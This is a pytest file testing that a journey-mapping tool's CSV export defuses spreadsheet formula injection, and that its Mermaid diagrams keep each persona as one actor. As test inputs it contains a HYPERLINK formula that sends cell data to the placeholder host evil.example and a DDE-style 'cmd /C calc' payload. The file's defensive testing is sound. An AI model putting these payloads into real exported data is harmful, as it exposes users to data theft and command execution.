"""What journeymap writes for other programs (issue 16): CSV that a spreadsheet opens without
running a formula from the data, and Mermaid that keeps a persona one actor."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from journeymap.cli import app
from journeymap.cli._output import inert
from journeymap.model import JourneyMap, Persona, Stage, Touchpoint
from journeymap.rendering.mermaid import to_mermaid

ENV = {"COLUMNS": "200", "NO_COLOR": "1", "TERM": "dumb"}

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


# ---- CSV: formula injection ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-12.5", "-12.5"),  # a plain number stays a number
        ("+33", "+33"),
        ("1e-5", "1e-5"),
        ("a=b", "a=b"),  # only the start of a cell matters
        ("", ""),
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str, written: str) -> None:
    table = pa.table({"text": [cell, None], "n": [-1.5, 2.0]})
    out = inert(table)
    assert out.column("text").to_pylist() == [written, None]
    assert out.column("n").to_pylist() == [-1.5, 2.0]  # numbers are not text


def test_column_names_and_dictionary_columns_are_made_inert_too() -> None:
    table = pa.table({"=cmd": ["x"], "e": pa.array(["=1"]).dictionary_encode()})
    out = inert(table)
    assert out.column_names == ["'=cmd", "e"]
    assert out.column("e").to_pylist() == ["'=1"]


def test_feedback_written_as_csv_runs_no_formula(tmp_path: Path) -> None:
    survey = tmp_path / "s.csv"
    with survey.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["respondent", "nps", "comment"])
        w.writerows([["a", 9, EVIL], ["b", 3, "-5 stars, awful"], ["c", 7, "-5"]])
    out = tmp_path / "sentiment.csv"
    result = CliRunner().invoke(
        app, ["feedback", "sentiment", str(survey), "-o", str(out)], env=ENV
    )
    assert result.exit_code == 0, result.output
    with out.open(newline="") as f:
        texts = [row["text"] for row in csv.DictReader(f)]
    assert texts == ["'" + EVIL, "'-5 stars, awful", "-5"]
    as_json = tmp_path / "sentiment.json"
    result = CliRunner().invoke(
        app, ["feedback", "sentiment", str(survey), "-o", str(as_json)], env=ENV
    )
    assert json.loads(as_json.read_text())[0]["text"] == EVIL  # JSON keeps it as it is


def test_event_names_written_as_csv_run_no_formula(tmp_path: Path) -> None:
    log = tmp_path / "log.csv"
    with log.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["user_id", "event", "timestamp"])
        w.writerows([
            ["u1", "@visit", "2024-01-01T10:00:00"], ["u1", EVIL, "2024-01-01T10:05:00"],
            ["u2", "@visit", "2024-01-02T10:00:00"], ["u2", EVIL, "2024-01-02T10:01:00"],
        ])  # fmt: skip
    out = tmp_path / "flows.csv"
    result = CliRunner().invoke(app, ["events", "flows", str(log), "-o", str(out)], env=ENV)
    assert result.exit_code == 0, result.output
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    cells = {v for row in rows for v in row.values()}
    assert "'" + EVIL in cells and "'@visit" in cells
    assert not any(v.startswith(("=", "@")) for v in cells)


# ---- Mermaid ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "actor"),
    [
        ("Amber; VIP, Inc", "Amber VIP Inc"),  # was two actors: "Amber" and "VIP Inc"
        ("Leo # 2: admin", "Leo 2 admin"),
        ("; , :", "-"),
    ],
)
def test_a_persona_is_one_mermaid_actor(persona: str, actor: str) -> None:
    m = JourneyMap(
        name="Trip",
        persona=Persona(name=persona),
        stages=[
            Stage(name="Buy", touchpoints=[Touchpoint(name="Pay", actual_emotion="Delighted")])
        ],
    )
    task = to_mermaid(m).splitlines()[-1]
    assert task == f"      Pay: 5: {actor}"
    _, _, actors = task.split(":")
    assert [a.strip() for a in actors.split(",")] == [actor]
    assert not set(actors) & set(";#")
